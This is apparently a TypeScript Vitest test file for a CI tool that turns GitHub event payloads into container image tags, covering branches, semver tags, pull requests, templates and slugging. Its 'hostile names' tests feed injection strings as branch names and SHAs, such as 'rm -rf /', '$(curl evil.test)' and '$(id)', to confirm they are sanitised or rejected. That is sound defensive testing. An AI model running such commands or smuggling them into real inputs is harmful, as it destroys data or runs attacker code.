import { describe, expect, it } from 'vitest'
import { eventContext } from '../../src/core/event-context'
import { branchSlug, isValidTag } from '../../src/core/tag-grammar'
import { computeTags, type TagRuleOptions } from '../../src/core/tags'
import {
  type GitHubEvent,
  PR_HEAD_SHA,
  pullRequestEvent,
  pushEvent,
  SHA,
  workflowDispatchEvent,
} from '../fixtures/github-events'

const defaults: TagRuleOptions = { service: 'cart', templates: [], defaults: true, latest: 'auto' }

function tagsFor(event: GitHubEvent, options: Partial<TagRuleOptions> = {}) {
  const env = { GITHUB_REPOSITORY: 'minishop/user-service', GITHUB_RUN_NUMBER: '17', ...event.env }
  return computeTags(eventContext(env, event.payload), { ...defaults, ...options })
}

describe('default tag rules over real event payloads', () => {
  const table: [string, GitHubEvent, string[], string][] = [
    ['push to the default branch', pushEvent('refs/heads/main'), [SHA, 'latest'], SHA],
    [
      'push to another branch',
      pushEvent('refs/heads/feature/Cart-V2'),
      [`feature-cart-v2-${SHA}`],
      `feature-cart-v2-${SHA}`,
    ],
    [
      'first push of a branch',
      pushEvent('refs/heads/fix/login', { created: true }),
      [`fix-login-${SHA}`],
      `fix-login-${SHA}`,
    ],
    [
      'release tag',
      pushEvent('refs/tags/v1.2.3', { created: true }),
      ['1.2.3', SHA, 'latest'],
      SHA,
    ],
    ['release tag without v', pushEvent('refs/tags/2.0.0'), ['2.0.0', SHA, 'latest'], SHA],
    ['pre-release tag', pushEvent('refs/tags/v1.3.0-rc.1'), ['1.3.0-rc.1', SHA], SHA],
    [
      'semver with build metadata',
      pushEvent('refs/tags/v1.3.0+build.7'),
      ['1.3.0-build.7', SHA, 'latest'],
      SHA,
    ],
    ['other tag', pushEvent('refs/tags/Nightly_2024'), ['nightly_2024', SHA], SHA],
    [
      'pull request (head branch and head SHA, not the merge commit)',
      pullRequestEvent('feature/Cart-V2'),
      [`feature-cart-v2-${PR_HEAD_SHA}`],
      `feature-cart-v2-${PR_HEAD_SHA}`,
    ],
    [
      'pull request from a fork',
      pullRequestEvent('main', { headRepo: 'contributor/user-service' }),
      [`main-${PR_HEAD_SHA}`],
      `main-${PR_HEAD_SHA}`,
    ],
    [
      'pull_request_target',
      pullRequestEvent('patch-1', { eventName: 'pull_request_target' }),
      [`patch-1-${PR_HEAD_SHA}`],
      `patch-1-${PR_HEAD_SHA}`,
    ],
    ['workflow_dispatch on main', workflowDispatchEvent('main'), [SHA, 'latest'], SHA],
    [
      'workflow_dispatch on a branch',
      workflowDispatchEvent('hotfix/stock'),
      [`hotfix-stock-${SHA}`],
      `hotfix-stock-${SHA}`,
    ],
  ]

  it.each(table)('%s', (_name, event, tags, immutable) => {
    const result = tagsFor(event)
    expect(result.tags).toEqual(tags)
    expect(result.immutable).toBe(immutable)
    for (const tag of result.tags) expect(isValidTag(tag)).toBe(true)
  })

  it('a pull request never moves latest, even from a branch called main', () => {
    expect(tagsFor(pullRequestEvent('main')).tags).not.toContain('latest')
  })

  it('latest: false never moves latest; latest: true always does', () => {
    expect(tagsFor(pushEvent('refs/heads/main'), { latest: 'false' }).tags).toEqual([SHA])
    expect(tagsFor(pushEvent('refs/tags/v1.3.0-rc.1'), { latest: 'true' }).tags).toContain('latest')
  })
})

describe('tag templates', () => {
  it('renders every placeholder', () => {
    const result = tagsFor(pushEvent('refs/tags/v1.2.3'), {
      templates: [
        '{service}-{semver}',
        '{major}.{minor}',
        'v{major}',
        'run-{run_number}',
        '{short_sha}',
      ],
    })
    expect(result.tags).toEqual([
      '1.2.3',
      SHA,
      'latest',
      'cart-1.2.3',
      '1.2',
      'v1',
      'run-17',
      SHA.slice(0, 7),
    ])
  })

  it('skips a template whose placeholder has no value for this event, and says so', () => {
    const result = tagsFor(pushEvent('refs/heads/main'), {
      templates: ['{semver}', 'pr-{pr_number}', '{branch}'],
    })
    expect(result.tags).toEqual([SHA, 'latest', 'main'])
    expect(result.notes).toEqual([
      'tag template "{semver}" does not apply to this event',
      'tag template "pr-{pr_number}" does not apply to this event',
    ])
  })

  it('default-tags: false keeps only the templates; the one naming the commit is immutable', () => {
    const result = tagsFor(pullRequestEvent('feat'), {
      defaults: false,
      templates: ['pr-{pr_number}', 'pr-{pr_number}-{short_sha}'],
    })
    expect(result.tags).toEqual(['pr-42', `pr-42-${PR_HEAD_SHA.slice(0, 7)}`])
    expect(result.immutable).toBe(`pr-42-${PR_HEAD_SHA.slice(0, 7)}`)
  })

  it('refuses unknown placeholders and renders that break the tag grammar', () => {
    expect(() => tagsFor(pushEvent('refs/heads/main'), { templates: ['{version}'] })).toThrow(
      /Input tags: unknown placeholder \{version\}/,
    )
    expect(() => tagsFor(pushEvent('refs/heads/main'), { templates: ['$(id)'] })).toThrow(
      /Input tags: "\$\(id\)" gives "\$\(id\)", which is not a valid image tag/,
    )
    expect(() => tagsFor(pushEvent('refs/heads/main'), { templates: ['.{sha}'] })).toThrow(
      /not a valid image tag/,
    )
  })

  it('shortens a long branch in a template so the rest survives', () => {
    const branch = `feature/${'x'.repeat(300)}`
    const result = tagsFor(pushEvent(`refs/heads/${branch}`), {
      templates: ['{branch}-{run_number}-{sha}'],
    })
    const tag = result.tags[1]!
    expect(tag.length).toBe(128)
    expect(tag.endsWith(`-17-${SHA}`)).toBe(true)
  })
})

describe('hostile names', () => {
  const hostile: [string, string][] = [
    ['shell metacharacters', 'feat;rm -rf /&&echo|x>y'],
    ['command substitution', 'feat/$(curl evil.test)'],
    ['backticks', 'feat/`id`'],
    ['unicode', 'fonctionnalité/ünïcødé-🚀'],
    ['only unicode', '日本語'],
    ['leading dots and dashes', '..--.weird'],
    ['300 characters', `feature/${'a'.repeat(300)}`],
    ['newline and quotes', 'a\n"b\'c'],
  ]

  it.each(hostile)('a branch with %s becomes a valid tag that keeps the SHA', (_name, branch) => {
    for (const event of [pushEvent(`refs/heads/${branch}`), pullRequestEvent(branch)]) {
      const result = tagsFor(event)
      const sha = event.eventName === 'push' ? SHA : PR_HEAD_SHA
      expect(result.tags).toHaveLength(1)
      expect(isValidTag(result.immutable)).toBe(true)
      expect(result.immutable.length).toBeLessThanOrEqual(128)
      expect(result.immutable.endsWith(`-${sha}`)).toBe(true)
      expect(result.immutable).toMatch(/^[a-z0-9_][a-z0-9_.-]*$/)
    }
  })

  it('a 300-character branch is cut to exactly 128 characters', () => {
    const result = tagsFor(pushEvent(`refs/heads/${'b'.repeat(300)}`))
    expect(result.immutable).toBe(`${'b'.repeat(87)}-${SHA}`)
  })

  it('refuses a commit that is not a SHA', () => {
    const event = pushEvent('refs/heads/main', { sha: '$(id)' })
    expect(() => tagsFor(event)).toThrow('The commit to build is not a full commit SHA: "$(id)"')
  })
})

describe('branchSlug', () => {
  it.each([
    ['feature/JIRA-12_add cart', 'feature-jira-12_add-cart'],
    ['a//b', 'a-b'],
    ['-x-', 'x'],
    ['.hidden', 'hidden'],
    ['release/1.2', 'release-1.2'],
    ['日本語', 'branch'],
    ['dependabot/npm_and_yarn/lodash-4.17.21', 'dependabot-npm_and_yarn-lodash-4.17.21'],
  ])('%s -> %s', (name, slug) => {
    expect(branchSlug(name)).toBe(slug)
  })
})
